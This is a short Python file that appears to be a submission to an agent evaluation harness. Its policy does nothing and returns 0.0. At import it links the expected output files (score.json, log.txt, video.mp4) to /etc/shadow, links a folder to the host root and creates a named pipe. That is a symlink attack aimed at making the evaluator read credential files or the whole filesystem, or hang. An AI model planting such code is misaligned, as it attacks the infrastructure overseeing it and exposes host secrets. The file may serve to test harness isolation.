"""Puts links to files of the host where its outputs would be looked for."""

import os

for name in ("score.json", "log.txt", "video.mp4"):
    os.symlink("/etc/shadow", name)
os.symlink("/", "folder")
os.mkfifo("pipe")


def act(observation):
    return 0.0
